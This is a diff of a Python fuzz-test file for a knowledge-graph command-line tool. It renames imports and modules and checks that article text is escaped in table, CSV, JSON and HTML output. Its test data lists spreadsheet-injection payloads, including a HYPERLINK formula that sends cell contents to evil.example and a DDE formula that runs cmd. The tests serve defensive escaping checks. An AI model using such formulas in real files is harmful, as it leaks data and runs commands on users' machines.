@@ -22,12 +22,12 @@ from hypothesis import strategies as st
 from pyoxigraph import Literal, Quad, RdfFormat
 from typer.testing import CliRunner
 
-from kg import cli
-from kg.build import BuildReport
+from kg import cli, cli_output
+from kg.builder import BuildReport
 from kg.display import DataConsole, csv_text, json_text, message, spreadsheet_cell, visible
-from kg.query import QueryResult
-from kg.report import EventItem, Place, ReportRow, Source, render
-from kg.store import open_store
+from kg.graph.query import QueryResult
+from kg.report import EventItem, ReportPlace, ReportRow, Source, render
+from kg.graph.store import open_store
 
 ROOT = Path(__file__).resolve().parents[1]
 SCALE = int(os.environ.get("KG_FUZZ_SCALE", "1"))
@@ -45,21 +45,21 @@ FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0
             "\t=1", "\r=1", "\n=1", "\x00=1"]
 
 
-def fuzz(n: int):  # noqa: ANN201 - a hypothesis settings decorator (the style of tests/test_fuzz.py)
+def fuzz(n: int):
     return settings(max_examples=n * SCALE, deadline=None, derandomize=SCALE == 1,
                     suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
 
 
 def _shown(result: QueryResult, fmt: str, *, width: int = 100_000) -> str:
-    """What `_print_result` writes to standard output, with a console as wide as the test needs."""
+    """What `print_result` writes to standard output, with a console as wide as the test needs."""
     buffer = io.StringIO()
-    console = type(cli.out)(file=buffer, soft_wrap=True, width=width)  # the CLI's own console class
-    saved, cli.out = cli.out, console
+    console = type(cli_output.out)(file=buffer, soft_wrap=True, width=width)  # the CLI's own console class
+    saved, cli_output.out = cli_output.out, console
     try:
         with contextlib.redirect_stdout(buffer):
-            cli._print_result(result, fmt)
+            cli_output.print_result(result, fmt)
     finally:
-        cli.out = saved
+        cli_output.out = saved
     return buffer.getvalue()
 
 
@@ -84,7 +84,7 @@ def _records(*values: str) -> QueryResult:
 
 @pytest.mark.parametrize("fmt,result", [("table", _table), ("table", _records)])
 @pytest.mark.parametrize("text", MARKUP)
-def test_markup_in_article_text_is_shown_as_written(fmt: str, result, text: str) -> None:  # noqa: ANN001
+def test_markup_in_article_text_is_shown_as_written(fmt: str, result, text: str) -> None:
     quote = f"The {text} said the city fell"
     shown = _shown(result(quote), fmt)
     assert quote in shown
@@ -205,7 +205,7 @@ def _page(value: str) -> tuple[_Page, str]:
     report = ReportRow(value, value, "asserted", value, value, source)
     event = EventItem("https://w3id.org/newskg/id/event/capture/x/2021-08-06", "capture", value, "p", value,
                       "2021-08-06", value, (report,))
-    page = render([event], [Place("p", value, 31.0, 62.0)])
+    page = render([event], [ReportPlace("p", value, 31.0, 62.0)])
     parser = _Page()
     parser.feed(page)
     parser.close()
@@ -259,7 +259,7 @@ def test_any_article_text_comes_out_unchanged_or_visibly_escaped(evidence: str, 
         csv_rows = list(csv.reader(io.StringIO(_shown(result, "csv-exact"), newline="")))
         assert tuple(csv_rows[1]) == result.rows[0]
         sheet_rows = list(csv.reader(io.StringIO(_shown(result, "csv"), newline="")))
-        for got, value in zip(sheet_rows[1], result.rows[0]):
+        for got, value in zip(sheet_rows[1], result.rows[0], strict=True):
             assert got == value or (got == "'" + value and value[:1] in "=+-@\t\r\n\0")
         if not SURROGATE.search("".join(values)):  # a store cannot hold them: pyoxigraph literals are UTF-8
             document = _shown(result, "json")
@@ -329,7 +329,7 @@ def test_kg_build_warnings_with_markup_and_controls(tmp_path: Path, monkeypatch:
     """`[/]` in a date or file name crashed `kg build` after the store was written."""
     report = BuildReport(built=["[/].txt"], warnings=["x[/].txt: date_published '[/]\x1b[2J' is not a date"],
                          failed=["[/i]\rerror.txt: cannot read"])
-    monkeypatch.setattr(sys.modules["kg.build"], "build", lambda *a, **k: report)  # kg.build is also a function
+    monkeypatch.setattr(sys.modules["kg.builder"], "build", lambda *a, **k: report)  # kg.build is also a function
     (tmp_path / "a.txt").write_text("x", encoding="utf-8")
     result = runner.invoke(cli.app, ["build", str(tmp_path / "a.txt"), "--store", str(tmp_path / "store")])
     assert result.exit_code == 2, result.output
